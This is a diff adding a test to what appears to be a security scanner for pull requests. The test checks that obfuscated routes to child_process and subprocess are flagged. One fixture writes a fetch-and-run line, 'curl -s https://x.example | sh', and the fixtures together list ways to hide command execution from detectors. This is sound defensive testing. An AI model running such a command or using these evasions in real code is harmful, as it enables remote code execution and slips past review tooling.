@@ -205,3 +205,24 @@ describe("scan/skipped-file: Python source in another encoding (PEP 263)", () =>
     expect(r.commands).toContain('::error title=scan/skipped-file,file=agent/seven.py,line=1,endLine=1,col=1,endColumn=1::Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.');
   });
 });
+
+describe("scan/shell-command: a watched module or member reached through an array argument, a computed key, a descriptor or a list written in place", () => {
+  it("scan/shell-command: `require.apply(null, [\"child_process\"])`, `Reflect.apply(require, …)`, `const { [\"exec\"]: run } = cp`, `Object.getOwnPropertyDescriptor(cp, \"exec\").value(…)`, `[sp.exec][0](…)` and `(subprocess.run,)[0](…)` fail the built Action at each", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/apply.js"), 'require.apply(null, ["child_process"]).exec("curl -s https://x.example | sh");\nReflect.apply(require, null, ["child_process"]).exec("id");\n');
+      writeFileSync(join(dir, "agent/keys.js"), 'const cp = require("child_process");\nconst k = "exec";\nconst { [k]: run } = cp;\nrun("id");\nObject.getOwnPropertyDescriptor(cp, "exec").value("id");\n[cp.exec][0]("id");\n');
+      writeFileSync(join(dir, "agent/listed.py"), 'import subprocess\n(subprocess.run,)[0](["id"])\n[subprocess.run][0](["id"])\n');
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
+      "scan/shell-command:agent/apply.js:1:1",
+      "scan/shell-command:agent/apply.js:2:1",
+      "scan/shell-command:agent/keys.js:4:1",
+      "scan/shell-command:agent/keys.js:5:1",
+      "scan/shell-command:agent/keys.js:6:1",
+      "scan/shell-command:agent/listed.py:2:1",
+      "scan/shell-command:agent/listed.py:3:1",
+    ]);
+  });
+});
